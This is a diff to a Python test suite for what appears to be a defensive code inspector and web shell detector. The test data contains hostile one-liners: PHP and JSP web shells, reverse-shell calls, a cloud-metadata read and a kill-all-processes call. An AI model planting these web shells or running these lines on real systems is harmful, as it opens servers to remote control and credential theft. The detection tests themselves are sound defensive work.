@@ -2,7 +2,7 @@
 
 import pytest
 
-from gw.defender.shell.code import inspect
+from gw.defender.shell.code import inspect, is_web_shell
 
 
 @pytest.mark.parametrize(
@@ -23,6 +23,13 @@ from gw.defender.shell.code import inspect
         ("php", 'passthru("ls -l");', ("ls -l",)),
         ("tcl", "spawn ls -l; interact", ("ls -l",)),
         ("m4", "esyscmd(ls -l)", ("ls -l",)),
+        ("tcl", "exec ls -l", ("ls -l",)),
+        ("groovy", '"ls -l".execute()', ("ls -l",)),
+        ("scala", '"ls -l".!', ("ls -l",)),
+        ("erlang", 'os:cmd("ls -l")', ("ls -l",)),
+        ("elixir", 'System.cmd("ls", [])', ("ls",)),
+        ("lisp", '(term "ls")', ("ls",)),
+        ("awk", 'BEGIN { "sh -c \\"ls\\"" | getline }', ('sh -c "ls"',)),
         ("python", "print('system of a down')", ()),
     ],
 )
@@ -69,3 +76,49 @@ def test_a_long_literal_is_read_whole() -> None:
 def test_long_code_is_read_whole() -> None:
     code = "x = 1\n" * 2000 + "os.system('ls')\n"
     assert inspect("python", code).commands == ("ls",)
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "fact"),
+    [
+        ("python", "urlopen('http://169.254.169.254/latest')", "reads-metadata"),
+        ("python", "keyring.get_password('a', 'b')", "reads-service-secret"),
+        ("python", "requests.delete('http://h/1')", "http-delete"),
+        ("python", "os.kill(-1, 9)", "kills-all"),
+        ("python", "t=telnetlib.Telnet(h); os.popen(t.read_until(b'x'))", "reverse-shell"),
+        ("powershell", "invoke-conptyshell 192.0.2.7 1", "reverse-shell"),
+        ("python", "socket.create_connection(a)", "code-network"),
+    ],
+)
+def test_what_it_may_do_besides(language: str, code: str, fact: str) -> None:
+    assert fact in inspect(language, code).facts
+
+
+@pytest.mark.parametrize("code", ["socket.gethostname()", "socket.getfqdn()", "print('169.254.169.254')"])
+def test_asking_for_a_name_is_no_connection(code: str) -> None:
+    assert not inspect("python", "import socket; " + code).facts
+
+
+def test_relative_paths_that_it_says_it_deletes() -> None:
+    assert inspect("python", "shutil.rmtree('build')").removed == ("build",)
+    assert inspect("node", "fs.rmSync('src', {recursive: true})").removed == ("src",)
+
+
+def test_reading_and_writing_with_open() -> None:
+    assert not inspect("python", "open('/etc/x').read()").writes
+    assert inspect("python", "open('/etc/x', 'w')").writes
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "planted"),
+    [
+        ("x.php", "<?php system($_GET['c']); ?>", True),
+        ("x.php", "<?= `$_POST[0]` ?>", True),
+        ("x.php", "eval(base64_decode($_REQUEST['x']));", True),
+        ("x.jsp", 'Runtime.getRuntime().exec(request.getParameter("c"));', True),
+        ("x.php", "echo htmlspecialchars($_GET['q']);", False),
+        ("notes.md", "<?php system($_GET['c']); ?>", False),
+    ],
+)
+def test_pages_that_run_what_visitors_send(path: str, text: str, planted: bool) -> None:
+    assert is_web_shell(path, text) is planted
